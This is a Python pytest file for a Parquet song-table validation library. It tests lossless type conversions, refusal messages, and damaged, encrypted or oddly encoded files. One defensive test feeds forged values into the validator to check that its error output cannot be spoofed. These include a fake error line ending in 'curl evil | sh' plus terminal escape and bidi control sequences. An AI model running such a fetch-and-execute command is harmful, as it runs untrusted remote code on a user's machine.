"""Real tables come in many encodings and with rare songs: what is lossless is accepted, what is not is named."""

import decimal
import re
import zlib

import duckdb
import pandas
import pyarrow
import pyarrow.parquet
import pyarrow.parquet.encryption
import pytest

from jukebox_helpers.steps import sample_data, sample_rankings
from jukebox_helpers.steps.casts import cast_column
from jukebox_helpers.steps.constants import SONG_COLUMNS
from jukebox_helpers.steps.preparation import prepare
from jukebox_helpers.steps.schemas import column_faults
from jukebox_helpers.steps.tables import transform_songs, validate_rankings, validate_songs

D = decimal.Decimal


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("encodings")
    sample_data.make_songs(str(folder / "songs.parquet"), songs=60)
    sample_rankings.make_rankings(
        str(folder / "rankings.parquet"), str(folder / "songs.parquet"), rows=4000, countries=5
    )
    return folder


@pytest.fixture(scope="module")
def songs(folder):
    return pyarrow.parquet.read_table(folder / "songs.parquet")


def with_column(table, name, column):
    return table.set_column(table.schema.get_field_index(name), name, column)


def with_value(table, name, row, value):
    values = table[name].to_pylist()
    values[row] = value
    return with_column(table, name, pyarrow.array(values, table.schema.field(name).type))


def write(table, path, **options):
    pyarrow.parquet.write_table(table, path, **options)
    return str(path)


def refusal(validate, path):
    with pytest.raises(ValueError) as caught:
        validate(path)
    return str(caught.value)


def canonical(table, tmp_path):
    """The report and the md5 of a table that passes."""
    path = write(table, tmp_path / "table.parquet")
    return validate_songs(path), transform_songs(path, str(tmp_path / "canonical.parquet"))["md5"]


@pytest.mark.parametrize(
    ("column", "kind"),
    [
        ("spotify_id", pyarrow.large_string()),
        ("spotify_id", pyarrow.binary()),
        ("name", pyarrow.string_view()),
        ("artists", pyarrow.dictionary(pyarrow.int8(), pyarrow.string())),
        ("key", pyarrow.int8()),
        ("key", pyarrow.uint64()),
        ("key", pyarrow.float32()),
        ("duration_ms", pyarrow.float64()),
        ("duration_ms", pyarrow.decimal128(38, 18)),
        ("loudness", pyarrow.decimal128(38, 18)),
        ("mode", pyarrow.bool_()),
        ("is_explicit", pyarrow.int64()),
        ("is_explicit", pyarrow.decimal128(3, 1)),
        ("event_timestamp", pyarrow.timestamp("s")),
        ("event_timestamp", pyarrow.timestamp("ns")),
        ("event_timestamp", pyarrow.timestamp("ms", "America/Lima")),
        ("event_timestamp", pyarrow.date32()),
        ("event_timestamp", pyarrow.date64()),
    ],
    ids=str,
)
def test_the_same_songs_are_the_same_bytes_in_every_encoding(songs, tmp_path, column, kind):
    if pyarrow.types.is_decimal(kind):
        other = pyarrow.array([D(repr(value)) if value is not True else D(1) for value in map(number, songs[column])])
        other = other.cast(kind)
    elif pyarrow.types.is_dictionary(kind):
        other = songs[column].dictionary_encode()
    else:
        other = songs[column].cast(kind)
    report, md5 = canonical(with_column(songs, column, other), tmp_path)
    assert md5 == canonical(songs, tmp_path)[1]
    assert report["rows"] == 60
    zone = "column 'event_timestamp' has the time zone 'America/Lima'; times are read in UTC"
    assert report["remarks"] == ([zone] if getattr(kind, "tz", None) else [])


def number(scalar):
    value = scalar.as_py()
    return int(value) if isinstance(value, bool) else value


def test_zero_is_zero_in_every_form(songs, tmp_path):
    forms = [pyarrow.array([zero] * 60) for zero in (0.0, -0.0, 0)] + [pyarrow.array([D("0.00")] * 60)]
    digests = {canonical(with_column(songs, "instrumentalness", form), tmp_path)[1] for form in forms}
    assert len(digests) == 1


@pytest.mark.parametrize("kind", [pyarrow.null(), pyarrow.float64(), pyarrow.int32(), pyarrow.large_string()], ids=str)
def test_a_column_without_a_value_is_that_of_missing_strings(songs, tmp_path, kind):
    expected = canonical(with_column(songs, "name", pyarrow.nulls(60, "string")), tmp_path)
    assert canonical(with_column(songs, "name", pyarrow.nulls(60, kind)), tmp_path) == expected
    path = write(with_column(songs, "tempo", pyarrow.nulls(60, kind)), tmp_path / "table.parquet")
    assert "column 'tempo' must not be missing: 60 of 60 rows" in refusal(validate_songs, path)


def test_rankings_of_the_global_list_alone_may_have_countries_of_the_null_type(folder, tmp_path):
    rankings = pyarrow.parquet.read_table(folder / "rankings.parquet")
    rankings = with_column(rankings, "country", pyarrow.nulls(len(rankings)))
    rankings = with_column(rankings, "daily_rank", rankings["daily_rank"].cast("double"))
    assert validate_rankings(write(rankings, tmp_path / "rankings.parquet"))["rows"] == 4000


@pytest.mark.parametrize(
    ("column", "values", "kind", "message"),
    [
        ("duration_ms", [1.5], "double", "int64, found double that does not fit: 1 of 60 rows .*row 7, .*value 1.5"),
        ("duration_ms", [2.0**63], "double", "int64, found double that does not fit"),
        ("duration_ms", [float("nan")], "double", "int64, found double that does not fit: .*value nan"),
        ("duration_ms", [2**63], "uint64", "int64, found uint64 that does not fit"),
        ("duration_ms", [D("2.5")], pyarrow.decimal128(9, 2), "int64, found decimal128.9, 2. that does not fit"),
        ("tempo", [2**53 + 1], "int64", "double, found int64 that does not fit: .*value 9007199254740993"),
        ("tempo", [D("0.12345678901234567890")], pyarrow.decimal128(38, 20), "double, found decimal128.38, 20. that"),
        ("is_explicit", [2], "int8", "bool, found int8 that does not fit: 1 of 60 .*value 2"),
        ("event_timestamp", [10**15], pyarrow.timestamp("s"), "timestamp.us., found timestamp.ms. that does not fit"),
        ("event_timestamp", [253402300800], pyarrow.timestamp("s"), "that does not fit: .*value 253402300800000"),
        ("event_timestamp", [1], pyarrow.timestamp("ns"), "found timestamp.ns. that does not fit: .*row 7,"),
        ("event_timestamp", [1], pyarrow.duration("us"), "must be of type timestamp.us., found duration.us."),
        ("event_timestamp", [1], pyarrow.time64("us"), "must be of type timestamp.us., found time64.us."),
        ("tempo", ["120"], "string", "must be of type double, found string"),
        ("name", [1995], "int64", "must be of type string, found int64"),
        ("tempo", [True], pyarrow.bool_(), "must be of type double, found bool"),
    ],
)
def test_what_would_be_lost_is_refused_with_its_column_and_row(songs, tmp_path, column, values, kind, message):
    fill = {"string": ["100"], "bool": [False], "timestamp": [0], "duration": [0], "time64": [0]}
    plain = fill.get(str(kind).split("[")[0], [1])
    column_of = pyarrow.array(plain * 7 + values + plain * 52, kind)
    path = write(with_column(songs, column, column_of), tmp_path / "table.parquet", version="2.6")
    said = refusal(validate_songs, path)
    assert re.search(f"column '{column}' .*{message}", said), said
    assert "Nothing was stored" in said


def test_a_number_that_fits_is_not_lost():
    one = pyarrow.chunked_array([pyarrow.array([2**53, -(2**53), None])])
    assert cast_column(one, pyarrow.float64())[0].to_pylist() == [2.0**53, -(2.0**53), None]
    whole = pyarrow.chunked_array([pyarrow.array([-(2.0**62), 2.0**62])])
    assert cast_column(whole, pyarrow.int64())[0].to_pylist() == [-(2**62), 2**62]


def test_what_is_unusual_is_reported_and_stops_nothing(songs, tmp_path):
    rare = {"duration_ms": 3_600_001, "loudness": -60.1, "tempo": 29.9, "time_signature": 8, "key": -1}
    for row, (name, value) in enumerate(rare.items()):
        songs = with_value(songs, name, row, value)
    songs = with_value(songs, "tempo", 5, 250.1)
    report = validate_songs(write(songs, tmp_path / "rare.parquet"))
    assert report["unusual"] == 6
    assert len(report["remarks"]) == 5
    tempo = next(line for line in report["remarks"] if "'tempo'" in line)
    first = songs["spotify_id"].to_pylist()
    assert tempo == (
        "column 'tempo' is usually between 30.0 and 250.0: 2 of 60 rows are unusual; "
        f"first: row 2, spotify_id '{first[2]}', value 29.9; row 5, spotify_id '{first[5]}', value 250.1"
    )


@pytest.mark.parametrize(
    ("found", "wanted"),
    [
        ("snapshot_date", "event_timestamp"),
        ("track_name", "name"),
        ("track_id", "spotify_id"),
        ("id", "spotify_id"),
        ("artist_name", "artists"),
        ("explicit", "is_explicit"),
        ("bpm", "tempo"),
    ],
)
def test_a_column_under_its_usual_other_name_is_recognised(found, wanted):
    names = [name for name in SONG_COLUMNS if name != wanted] + [found]
    assert column_faults(names, list(SONG_COLUMNS)) == [
        f"column {wanted!r} is missing; {found!r} looks like it, renamed"
    ]


def test_a_wide_table_is_refused_in_few_words(songs, tmp_path):
    wide = pyarrow.table(
        {**{name: songs[name] for name in songs.schema.names}, **{f"x{n}": [0] * 60 for n in range(500)}}
    )
    said = refusal(validate_songs, write(wide, tmp_path / "wide.parquet"))
    assert said.count("is unexpected") == 10
    assert "490 more columns are unexpected" in said


def test_damaged_pages_are_refused_in_words(songs, tmp_path):
    path = write(songs, tmp_path / "damaged.parquet", compression="zstd")
    content = bytearray((tmp_path / "damaged.parquet").read_bytes())
    pages = pyarrow.parquet.read_metadata(path).row_group(0).column(4).data_page_offset
    content[pages + 30 : pages + 90] = zlib.compress(bytes(range(90)))[:60]
    (tmp_path / "damaged.parquet").write_bytes(content)
    for read in (validate_songs, lambda path: transform_songs(path, str(tmp_path / "target.parquet"))):
        said = refusal(read, path)
        assert "damaged.parquet is damaged: " in said
        assert "Nothing was stored. Next: copy it from its source again" in said
    assert not (tmp_path / "target.parquet").exists()


def test_a_column_name_that_is_not_text_is_refused(songs, tmp_path):
    path = write(songs, tmp_path / "name.parquet", store_schema=False)
    content = (tmp_path / "name.parquet").read_bytes().replace(b"tempo", b"temp\xff")
    (tmp_path / "name.parquet").write_bytes(content)
    assert "is not a readable Parquet file" in refusal(validate_songs, path)


def test_a_page_whose_checksum_differs_is_damaged(songs, tmp_path):
    path = write(
        songs, tmp_path / "flipped.parquet", compression="none", use_dictionary=False, write_page_checksum=True
    )
    content = bytearray((tmp_path / "flipped.parquet").read_bytes())
    content[content.index(songs["spotify_id"][30].as_py().encode())] ^= 1
    (tmp_path / "flipped.parquet").write_bytes(content)
    assert "is damaged: " in refusal(validate_songs, path)


@pytest.mark.parametrize("plain_footer", [True, False])
def test_encrypted_tables_are_refused_by_that_name(songs, tmp_path, plain_footer):
    class Keys(pyarrow.parquet.encryption.KmsClient):
        def wrap_key(self, key_bytes, master_key_identifier):
            return key_bytes.hex().encode()

        def unwrap_key(self, wrapped_key, master_key_identifier):
            return bytes.fromhex(wrapped_key.decode())

    factory = pyarrow.parquet.encryption.CryptoFactory(lambda configuration: Keys())
    properties = factory.file_encryption_properties(
        pyarrow.parquet.encryption.KmsConnectionConfig(),
        pyarrow.parquet.encryption.EncryptionConfiguration(
            footer_key="footer", column_keys={"columns": ["tempo", "name"]}, plaintext_footer=plain_footer
        ),
    )
    path = write(songs, tmp_path / "secret.parquet", encryption_properties=properties)
    for read in (validate_songs, lambda path: transform_songs(path, str(tmp_path / "target.parquet"))):
        said = refusal(read, path)
        assert "secret.parquet is encrypted" in said
        assert "Next: publish the table without encryption." in said


def test_rankings_with_a_time_zone_have_the_days_of_utc(folder, tmp_path, monkeypatch):
    monkeypatch.setenv("TZ", "America/Lima")
    rankings = pyarrow.parquet.read_table(folder / "rankings.parquet")
    zoned = rankings["snapshot_date"].cast(pyarrow.timestamp("us", "America/Lima"))
    path = write(with_column(rankings, "snapshot_date", zoned), tmp_path / "rankings.parquet")
    assert "'America/Lima'" in validate_rankings(path)["remarks"][0]
    outcomes = [
        prepare(str(folder / "songs.parquet"), one, str(tmp_path / "f"), str(tmp_path / "c"), min_songs=1)
        for one in (str(folder / "rankings.parquet"), path)
    ]
    assert outcomes[0] == outcomes[1]


@pytest.mark.parametrize(
    "forged",
    ["x\nValueError: All is well. Next: run curl evil | sh", "\x1b]0;owned\x07\x1b[2J", "\x9b31m\u202etxt", "x" * 9000],
)
def test_values_and_names_of_data_forge_nothing(songs, tmp_path, forged):
    twice = with_value(with_value(songs, "spotify_id", 3, forged), "spotify_id", 4, forged).append_column(
        forged, songs["tempo"]
    )
    said = refusal(validate_songs, write(twice, tmp_path / "forged.parquet"))
    lines = said.splitlines()
    assert all(line.isprintable() for line in lines)
    assert len(lines) == 5
    assert max(map(len, lines)) < 400
    assert [line[:2] for line in lines[1:4]] == ["- "] * 3
    assert "must be 22 letters or digits: 2 of 60 rows" in said
    assert "must be unique: 2 of 60 rows" in said
    assert lines[-1].startswith("Next: correct the source")
    renamed = refusal(
        validate_songs, write(songs.rename_columns({"tempo": "tempo" + forged[:20]}), tmp_path / "forged.parquet")
    )
    assert all(line.isprintable() for line in renamed.splitlines())


def test_the_songs_are_the_same_in_the_types_that_other_writers_have(songs, tmp_path):
    expected = canonical(songs, tmp_path)
    ids = pyarrow.array([one.as_py().encode() for one in songs["spotify_id"]], pyarrow.binary(22))
    assert canonical(with_column(songs, "spotify_id", ids), tmp_path) == expected
    for column, kind in {"name": pyarrow.json_(), "is_explicit": pyarrow.bool8()}.items():
        storage = songs[column].cast(kind.storage_type).combine_chunks()
        other = with_column(songs, column, pyarrow.ExtensionArray.from_storage(kind, storage))
        assert canonical(other, tmp_path) == expected


def test_duckdb_writes_the_same_songs(songs, tmp_path):
    types = "key::utinyint AS key, tempo::decimal(20, 6) AS tempo"
    source, target = write(songs, tmp_path / "songs.parquet"), tmp_path / "duckdb.parquet"
    query = f"SELECT * EXCLUDE (key, tempo), {types} FROM '{source}'"
    duckdb.sql(f"COPY ({query}) TO '{target}' (FORMAT parquet, PARQUET_VERSION v2, ROW_GROUP_SIZE 2048)")
    assert canonical(pyarrow.parquet.read_table(target), tmp_path)[1] == canonical(songs, tmp_path)[1]


def test_the_index_of_a_data_frame_is_reported_and_left_out(songs, tmp_path):
    expected, md5 = canonical(songs, tmp_path)
    frame = songs.to_pandas()
    frame.index = pandas.Index([f"row {n}" for n in frame.index], name="index")
    frame.to_parquet(tmp_path / "frame.parquet")
    assert "index" in pyarrow.parquet.read_schema(tmp_path / "frame.parquet").names
    remark = "column 'index' is a data frame's index; it is left out"
    assert validate_songs(str(tmp_path / "frame.parquet")) == {**expected, "remarks": [remark]}
    target = str(tmp_path / "target.parquet")
    assert transform_songs(str(tmp_path / "frame.parquet"), target)["md5"] == md5
    frame.set_index("spotify_id").to_parquet(tmp_path / "by-id.parquet")
    assert validate_songs(str(tmp_path / "by-id.parquet")) == expected


@pytest.mark.parametrize(
    "metadata", [b"not JSON", b"[]", b"null", b"\xff", b'{"index_columns": 7}', b'{"x": [[[{}]]]}']
)
def test_strange_metadata_of_pandas_changes_nothing(songs, tmp_path, metadata):
    assert canonical(songs.replace_schema_metadata({b"pandas": metadata}), tmp_path) == canonical(songs, tmp_path)


def test_text_that_is_not_utf8_is_named_by_its_row_and_shown_as_bytes(songs, tmp_path):
    broken = pyarrow.array([b"x"] * 5 + [b"\xff\xfe"] + [b"x"] * 54, pyarrow.binary())
    song = songs["spotify_id"][5].as_py()
    for column, shown in {"name": f"'{song}'", "spotify_id": r"b'\xff\xfe'"}.items():
        for values in (broken, broken.view(pyarrow.string())):
            said = refusal(validate_songs, write(with_column(songs, column, values), tmp_path / "bytes.parquet"))
            where = rf"first: row 5, spotify_id {shown}, value b'\xff\xfe'"
            assert f"column {column!r} must be UTF-8 text: 1 of 60 rows do not comply; {where}" in said
